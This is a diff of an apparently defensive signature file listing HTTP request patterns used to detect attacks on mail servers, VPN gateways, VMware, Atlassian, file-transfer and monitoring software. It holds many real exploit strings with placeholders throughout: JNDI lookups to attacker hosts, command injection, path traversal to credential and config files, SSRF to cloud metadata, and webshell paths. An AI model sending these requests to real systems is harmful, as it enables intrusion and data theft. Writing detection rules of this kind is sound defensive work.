@@ -13,12 +13,12 @@ POST /ecp/{word}.js?~1941962753
 POST /ecp/proxyLogon.ecp
 POST /ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary={hex}&schema=OABVirtualDirectory
 POST /ecp/main.css
-GET /owa/auth/Current/themes/resources/{word}.aspx 200,404
-GET /aspnet_client/system_web/<supp0rt|discover|shell|{word}|logout|RedirSuiteServerProxy>.aspx
-POST /aspnet_client/<OutlookEN|HttpProxy|errorFF|log>.aspx 200,404
+!WS GET /owa/auth/Current/themes/resources/{word}.aspx 200,404
+!WS GET /aspnet_client/system_web/<supp0rt|discover|shell|{word}|logout|RedirSuiteServerProxy>.aspx
+!WS POST /aspnet_client/<OutlookEN|HttpProxy|errorFF|log>.aspx 200,404
 POST /_layouts/15/ToolPane.aspx?DisplayMode=Edit&foo=/ToolPane.aspx
 POST /_layouts/16/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx
-GET /_layouts/15/spinstall<0|1|2|>.aspx
+!WS GET /_layouts/15/spinstall<0|1|2|>.aspx
 GET /_layouts/15/start.aspx/SignOut.aspx/_layouts/15/ToolPane.aspx?DisplayMode=Edit
 POST /_vti_bin/client.svc/web/GetFileByServerRelativeUrl('/web.config')?X-Forefront={hex}
 POST /ecp/default.aspx?__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=%2FwEy{hex}{hex}
@@ -28,22 +28,19 @@ probes("mail-and-groupware-holes", """
 POST /service/extension/backup/mboximport?account-name=admin&account-status=1&ow=cmd
 POST /service/extension/clientUploader/upload/
 POST /Autodiscover/Autodiscover.xml?zimbra=<!DOCTYPE%20xxe%20[<!ENTITY%20%25%20dtd%20SYSTEM%20"http://{wan}/{word}.dtd">
-GET /zimbraAdmin/public/jsp/<{word}|formatter|Startup1_3>.jsp
-GET /public/{word}.jsp?cmd={cmd}
+!WS GET /zimbraAdmin/public/jsp/<{word}|formatter|Startup1_3>.jsp
+!WS GET /public/{word}.jsp?cmd={cmd}
 POST /?_task=settings&_framed=1&_remote=1&_from=edit-!%22;i:0;O:16:%22Crypt_GPG_Engine%22:1:&_id=&_uploadid=upload{big}&_action=upload
 GET /roundcube/?_task=mail&_action=get&_mbox=INBOX&_uid={n}&_part=1&_extwin=1%22onanimationstart=eval(atob(%27{hex}%27))
 POST /roundcubemail/installer/index.php?_step=2&_host=%3C%3Fphp%20system($_GET%5B0%5D)%3B
-GET /webmail/src/read_body.php?mailbox=INBOX&passed_id=1&startMessage=1%22%3E%3Cscript%3E
 POST /afterlogic/ajax.php?Module=Core&Method=Upload&path=../../{word}.php
-GET /horde/imp/test.php?mode=phpinfo&view=%3Cscript%3E
-POST /horde/services/go.php?url=jar:http://{wan}/a.jar!/b
-GET /WorldClient.dll?View=Logout&Session=%3Csvg/onload
+!SS POST /horde/services/go.php?url=jar:http://{wan}/a.jar!/b
 POST /MEWebMail/Mondo/lang/sys/Failure.aspx?state=19753&path=..%5c..%5c{word}.aspx
-GET /rpc/..%2f..%2f..%2fopt/kerio/mailserver/users.cfg
+!TR GET /rpc/..%2f..%2f..%2fopt/kerio/mailserver/users.cfg
 POST /ajax?action=cuwebmail&cmd=%7C{cmd}
 POST /SOGo/so/{user}/Calendar/uploadLogo?n=..%2f..%2f{word}.php
 POST /postfixadmin/setup.php?form=setuppw&lostpw_hash=%3C%3Fphp
-GET /icewarp/webmail/basic/minimizer/index.php?script=...%2f.%2f...%2f.%2f...%2f.%2fetc%2fpasswd
+!TR GET /icewarp/webmail/basic/minimizer/index.php?script=...%2f.%2f...%2f.%2f...%2f.%2fetc%2fpasswd
 """, _EXPLOIT, "T1190", severity="CRITICAL")
 
 probes("vpn-gateway-file-reading", """
@@ -71,7 +68,6 @@ probes("vpn-gateway-takeover", """
 POST /api/v1/totp/user-backup-code/../../system/maintenance/archiving/cloud-server-test-connection
 GET /api/v1/totp/user-backup-code/../../license/keys-status/%3bpython%20-c%20%27import%20socket
 POST /dana-na/auth/url_admin/login.cgi?username=%00{hex}&X-Forwarded-For={hex}{hex}{hex}
-GET /dana-cached/hc/hc_launcher.22.7.2.{big}.jar
 POST /ssl-vpn/hipreport.esp ~Mozilla/5.0 SESSID=/../../../var/appweb/sslvpndocs/global-protect/portal/images/{word}.txt
 POST /php/ztp_gate.php/.js.map
 POST /php/utils/createRemoteAppwebSession.php/{word}.js.map
@@ -82,10 +78,8 @@ POST /tmui/Control/form?handler=%2Ftmui%2Fsystem%2Fuser%2Fcreate&form_page=%2Ftm
 POST /tmui/login.jsp/..;/tmui/util/getTabSet.jsp?tabId={cmd}
 PUT /api/v2/cmdb/system/admin/admin ~Report Runner
 POST /api/v2/cmdb/system/admin?access_token= ~Node.js
-POST /api/v2/authentication?AuthHash={hex}{hex}{hex}
 GET /service-worker.js?local_access_token={word}
 POST /remote/error?errmsg=ABABAB--%3E%1f%8b
-POST /cgi-bin/module/flatui_auth?user={hex}
 POST /fileupload/toolsAny?appliance=fortimanager&data={hex}
 POST /vpns/portal/scripts/rmbm.pl?NSC_USER=../../../netscaler/portal/templates/{word}
 POST /gwtest/formssso?event=start&target={hex}{hex}{hex}{hex}
@@ -109,14 +103,13 @@ POST /ui/vropspluginui/rest/services/uploadova
 POST /ui/h5-vsan/rest/proxy/service/&vsanQueryUtil_setDataService/setTargetObject
 POST /analytics/telemetry/ph/api/hyper/send?_c&_i={word}
 POST /analytics/ceip/sdk/..;/..;/..;/analytics/ph/api/dataapp/agent?_c=vSphere.{word}.1_0&_i=9D36C850
-GET /eam/vib?id=/etc/vmware-vpx/vcdb.properties
+!LF GET /eam/vib?id=/etc/vmware-vpx/vcdb.properties
 GET /websso/SAML2/SSO/vsphere.local?SAMLRequest= ~${jndi:ldap://{wan}:1389/{word}}
 GET /catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7b%22freemarker.template.utility.Execute%22%3fnew()(%22{cmd}%22)%7d
 POST /SAAS/auth/login/embeddedauthbroker/callback?X-host={strange}
-POST /casa/nodes/thumbprints
 POST /saas./resttosaasservlet?vrni={hex}
 POST /nsxapi/api/v1/xstream?%3Csorted-set%3E%3Cdynamic-proxy%3E
-GET /ui/vcav-bootstrap/rest/vcav-providers/provider-logo?url=file:///etc/passwd
+!LF GET /ui/vcav-bootstrap/rest/vcav-providers/provider-logo?url=file:///etc/passwd
 GET /portal/info.jsp ~${jndi:ldap://{strange}/a}
 POST /broker/xml?x=${jndi:rmi://{wan}:1099/{word}}
 POST /remotehelp/login?token=&AccountName=%27%3B{cmd}
@@ -127,7 +120,7 @@ POST /Bin/ConnectWise.Control.Extension.dll?__VIEWSTATE={hex}{hex}
 POST /dl.asp?vsaagent=KUpload.dll&FileName=agent.crt&PathData=%3c
 POST /kupload.dll?PathData=..%5c..%5cuserFilterTableRpt.asp
 POST /AgentTunnel/ws?token=..%2f..%2f{word}.jsp&simplehelp=1
-GET /toolbox-resource/../resource1/../../../../../../../configuration/serverconfig.xml
+!TR GET /toolbox-resource/../resource1/../../../../../../../configuration/serverconfig.xml
 GET /api/v2/guacamole/..;/..;/manager/html
 """, _EXPLOIT, "T1190", severity="CRITICAL")
 
@@ -142,15 +135,15 @@ POST /setup/setupadministrator.action?fullName={word}&username={word}&password={
 GET /server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=0&cache{word}
 POST /setup/finishsetup.action
 POST /json/setup-restore-local.action?synchronous=true
-POST /rest/tinymce/1/macro/preview?_template=../web.xml
-POST /rest/tinymce/1/macro/preview?_template=file:///etc/passwd
-GET /s/{hex}/_/;/WEB-INF/classes/seraph-config.xml
-GET /s/1u4n/_/%3B/META-INF/maven/com.atlassian.jira/jira-webapp-dist/pom.properties
-GET /plugins/servlet/oauth/users/icon-uri?consumerUri=http://169.254.169.254/latest/meta-data/
-GET /plugins/servlet/gadgets/makeRequest?url=https://{domain}:443@{strange}/
+!LF POST /rest/tinymce/1/macro/preview?_template=../web.xml
+!LF POST /rest/tinymce/1/macro/preview?_template=file:///etc/passwd
+!TR GET /s/{hex}/_/;/WEB-INF/classes/seraph-config.xml
+!TR GET /s/1u4n/_/%3B/META-INF/maven/com.atlassian.jira/jira-webapp-dist/pom.properties
+!SS GET /plugins/servlet/oauth/users/icon-uri?consumerUri=http://169.254.169.254/latest/meta-data/
+!SS GET /plugins/servlet/gadgets/makeRequest?url=https://{domain}:443@{strange}/
 POST /secure/ContactAdministrators.jspa?subject=$i18n.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('{cmd}')
 GET /rest/api/latest/projects/{word}/repos/{word}/archive?filename={word}&at={word}&path={word}&prefix=ax%00--exec=%60{cmd}%60%00--remote=origin
-POST /plugins/servlet/com.jsos.shell/ShellServlet?act={n}
+!WS POST /plugins/servlet/com.jsos.shell/ShellServlet?act={n}
 POST /admin/uploadplugin.action?file={word}.jar&os_authType=any&token=none%27
 """, _EXPLOIT, "T1190", severity="CRITICAL")
 
@@ -202,7 +195,7 @@ GET /login 200,302 ~${jndi:${lower:l}${lower:d}ap://${hostName}.{strange}/{word}
 GET /hc/api/v2/search?query=%24%7B%24%7Bupper%3Aj%7Dndi%3Aldaps%3A%2F%2F{wan}%2F{word}%7D
 GET /solr/admin/cores?action=${jndi:ldap://${sys:java.version}.{strange}}
 GET /solr/admin/collections?action=$%7Bjndi:rmi://{wan}:1099/{word}%7D&wt=json
-POST /api/login?user=%24%7bjndi%3anis%3a%2f%2f{wan}%2f{word}%7d
+POST /api/login?next=%24%7bjndi%3anis%3a%2f%2f{wan}%2f{word}%7d
 GET /favicon.ico ~${jndi:iiop://{wan}/{word}}
 GET /?a=$%7Bjndi:ldap://127.0.0.1%23{strange}:1389/{word}%7D
 POST /websso/SAML2/SLO/vsphere.local?SAMLRequest=${jndi:ldap://{wan}/o=tomcat}
@@ -215,20 +208,18 @@ GET /search?text=%24%7Bdns%3Aaddress%7C{hex}.{strange}%7D
 """, _EXPLOIT, "T1190", "T1203", severity="CRITICAL")
 
 probes("file-transfer-servers", """
-POST /guestaccess.aspx?arg12=promptaccesscode&transaction=signoff
 POST /moveitisapi/moveitisapi.dll?action=m2&X-siLock-Transaction=folder_add_by_path
 POST /machine.aspx?transaction=session_setvars&MyUsername=guest&MyPkgAccessCode=123&MyGuestEmailAddr=%27%3Binsert
-GET /human2.aspx 200,404
-GET /_human2.aspx 200,404
-POST /api/v1/folders/{big}/files?uploadType=resumable
+!WS GET /human2.aspx 200,404
+!WS GET /_human2.aspx 200,404
 POST /goanywhere/lic/accept?bundle={hex}{hex}{hex}
 GET /goanywhere/images/..;/wizard/InitialAccountSetup.xhtml
 GET /goanywhere/license/Unlicensed.xhtml/{word}?javax.faces.ViewState={word}&GARequestAction=activate
-POST /WebInterface/function/?c2f={hex}&command=exists&paths=%3CINCLUDE%3E/etc/passwd%3C/INCLUDE%3E
+!LF POST /WebInterface/function/?c2f={hex}&command=exists&paths=%3CINCLUDE%3E/etc/passwd%3C/INCLUDE%3E
 POST /WebInterface/function/?command=setUserItem&data_action=new&serverGroup=MainUsers&username={word}&user=%3C%3Fxml
 GET /WebInterface/ ~AS2-TO: X crushadmin
-GET /?path=..%2f..%2f..%2f..%2fProgram%20Files%2fServ-U%2f&InternalDir=/../../../../windows&InternalFile=win.ini
-GET /?InternalDir=\\..\\..\\..\\..\\etc&InternalFile=passwd
+!TR GET /?path=..%2f..%2f..%2f..%2fProgram%20Files%2fServ-U%2f&InternalDir=/../../../../windows&InternalFile=win.ini
+!TR GET /?InternalDir=\\..\\..\\..\\..\\etc&InternalFile=passwd
 POST /Synchronization?Retrieve&l=Ab1234-RQ0258&n=VLTrader&path=..%5c..%5cautorun%5c{word}.txt
 POST /Synchronization ~VLSync: Multipart;l=0,Acknowledge
 GET /?n=%0A&cmd=cmd.exe+/c+{cmd}&search=%25xxx%25url:%25password%25}{.exec|{.?cmd.}|timeout=15|out=abc.}{.?n.}
@@ -240,11 +231,11 @@ GET /documents/upload.aspx?parentid={hex}&raw=1&unzip=on&uploadid={hex}%5C..%5C.
 GET /ShareFile/documentum/cifs.aspx?id={cmd}
 POST /CFTelemetry/..;/ajax/lookup?ws_ftp=AHT/AHT_UI/public/index.html&{hex}
 POST /AHT/AhtApiService.asmx/AuthUser?__VIEWSTATE=AAEAAAD/////{hex}
-POST /filecloud/core/getfile?filepath=/../../../../conf/config.ini
-GET /owncloud/apps/graphapi/vendor/microsoft/microsoft-graph/tests/GetPhpInfo.php
-GET /apps/graphapi/vendor/microsoft/microsoft-graph/tests/GetPhpInfo.php/.css
+!TR POST /filecloud/core/getfile?filepath=/../../../../conf/config.ini
+!RE GET /owncloud/apps/graphapi/vendor/microsoft/microsoft-graph/tests/GetPhpInfo.php
+!RE GET /apps/graphapi/vendor/microsoft/microsoft-graph/tests/GetPhpInfo.php/.css
 POST /gladinet/filter/LoginPage.aspx?__VIEWSTATE=/wEyhAYAAQAAAP{hex}{hex}
-GET /storage/t.dn?s=..%5c..%5c..%5cProgram+Files+(x86)%5cGladinet+Cloud+Enterprise%5croot%5cWeb.config&sid=1
+!TR GET /storage/t.dn?s=..%5c..%5c..%5cProgram+Files+(x86)%5cGladinet+Cloud+Enterprise%5croot%5cWeb.config&sid=1
 """, _EXPLOIT, "T1190", severity="CRITICAL")
 
 probes("help-desk-and-management-software", """
@@ -272,12 +263,12 @@ GET /cacti/remote_agent.php?action=polldata&local_data_ids[0]=6&host_id=1&poller
 POST /nagiosxi/admin/monitoringplugins.php?cmd=..%2f;{cmd}
 GET /nagiosxi/ajaxhelper.php?cmd=getxicoreajax&opts=%7B%22func%22%3A%22get_hoststatus_table%22%7D%3B{cmd}
 GET /centreon/main.get.php?p=60904&command_line=;{cmd}
-POST /zabbix/api_jsonrpc.php?selectRole=1%20AND%20SLEEP(5)--&method=user.get
-GET /jsrpc.php?type=0&mode=1&method=screen.get&profileIdx=web.item.graph&resourcetype=17&profileIdx2=updatexml(0,concat(0xa,user()),0)
+!TB POST /zabbix/api_jsonrpc.php?selectRole=1%20AND%20SLEEP(5)--&method=user.get
+!ER GET /jsrpc.php?type=0&mode=1&method=screen.get&profileIdx=web.item.graph&resourcetype=17&profileIdx2=updatexml(0,concat(0xa,user()),0)
 POST /lookupClient.php?arcserve=%3C!ENTITY&wizard=/etc/passwd
 POST /xmlrpc?whatsupgold=/NmConsole/ReportService.asmx&ActiveMonitorPowerShellScript={cmd}
 POST /NmAPI/RecurringReport?platform=HasErrors(cmd.exe)
-GET /module/api.php?mobile/webNasIPS ~TNAS
+!RE GET /module/api.php?mobile/webNasIPS ~TNAS
 POST /tos/index.php?app/hand_app&name=;{cmd};.tpk
 POST /Telerik.Web.UI.DialogHandler.aspx?dp={hex}{hex}
 POST /Telerik.Web.UI.WebResource.axd?type=rau&rauPostData={hex}{hex}
